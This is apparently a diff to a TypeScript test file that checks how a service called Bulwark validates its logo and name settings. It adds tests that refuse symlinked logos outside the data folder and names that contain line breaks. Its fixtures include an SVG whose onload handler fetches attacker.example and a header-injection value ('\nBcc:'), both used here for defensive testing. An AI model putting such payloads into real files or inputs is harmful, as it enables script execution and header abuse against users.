@@ -24,13 +24,23 @@ const NHS_FAVICON = fs.readFileSync(createRequire(import.meta.url).resolve('nhsu
 const SVG_POLICY = "default-src 'none'; style-src 'unsafe-inline'";
 
 let dataDir: string;
+/** A folder beside the data folder, and a link to the data folder itself. */
+let elsewhere: string;
 beforeAll(() => {
   dataDir = fs.mkdtempSync(path.join(os.tmpdir(), 'bulwark-identity-'));
   fs.writeFileSync(path.join(dataDir, 'logo.svg'), SVG_LOGO);
   fs.writeFileSync(path.join(dataDir, 'logo.png'), PNG_LOGO);
   fs.writeFileSync(path.join(dataDir, 'hostile.svg'), '<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'https://attacker.example\')"/>');
+  elsewhere = fs.mkdtempSync(path.join(os.tmpdir(), 'bulwark-identity-elsewhere-'));
+  fs.writeFileSync(path.join(elsewhere, 'other.svg'), SVG_LOGO);
+  fs.symlinkSync(path.join(elsewhere, 'other.svg'), path.join(dataDir, 'linked.svg'));
+  fs.symlinkSync(elsewhere, path.join(dataDir, 'linked-folder'));
+  fs.symlinkSync(dataDir, path.join(elsewhere, 'data'));
 });
-afterAll(() => fs.rmSync(dataDir, { recursive: true, force: true }));
+afterAll(() => {
+  fs.rmSync(dataDir, { recursive: true, force: true });
+  fs.rmSync(elsewhere, { recursive: true, force: true });
+});
 
 const get = (t: TestApp, url: string) => t.server.inject({ method: 'GET', url });
 
@@ -140,6 +150,10 @@ describe('settings that are refused before anything starts', () => {
     ['a logo file that is not there', { BULWARK_LOGO: 'missing.svg' }, 'the logo file missing.svg'],
     ['an SVG logo with an event attribute', { BULWARK_LOGO: 'hostile.svg' }, 'has an event attribute (onload), which runs script'],
     ['a service name of spaces', { BULWARK_SERVICE_NAME: '   ' }, 'BULWARK_SERVICE_NAME'],
+    ['a logo that is a link to a file outside the data folder', { BULWARK_LOGO: 'linked.svg' }, 'cannot be used: it is a link to'],
+    ['a logo in a linked folder outside the data folder', { BULWARK_LOGO: 'linked-folder/other.svg' }, 'outside the data folder; copy the logo itself into the data folder'],
+    ['a service name on two lines', { BULWARK_SERVICE_NAME: 'Cyber\nBcc: someone@example.org' }, 'BULWARK_SERVICE_NAME: must be one line of text, without line breaks, tabs or other control characters'],
+    ['an organisation name with a tab', { BULWARK_ORGANISATION_NAME: 'Northshire\tTrust' }, 'BULWARK_ORGANISATION_NAME: must be one line of text'],
   ])('%s', (_, env, message) => {
     expect(refusal(env)).toContain(message);
   });
@@ -150,7 +164,12 @@ describe('settings that are refused before anything starts', () => {
     );
   });
 
+  it('a data folder reached through a link may hold the logo', () => {
+    const identity = loadDeploymentIdentity(testConfig({ BULWARK_DATA_DIR: path.join(elsewhere, 'data'), BULWARK_LOGO: 'logo.svg' }).identity);
+    expect(identity.mark.kind === 'logo' && identity.mark.logo.bytes.toString()).toBe(SVG_LOGO);
+  });
+
   it('the settings are read only from what is given', () => {
-    expect(loadConfig({}).identity).toEqual({ serviceName: 'Bulwark', organisationName: undefined, logoFile: undefined, nhsIdentity: false });
+    expect(loadConfig({}).identity).toEqual({ serviceName: 'Bulwark', organisationName: undefined, logoFile: undefined, dataDir: path.resolve('data'), nhsIdentity: false });
   });
 });
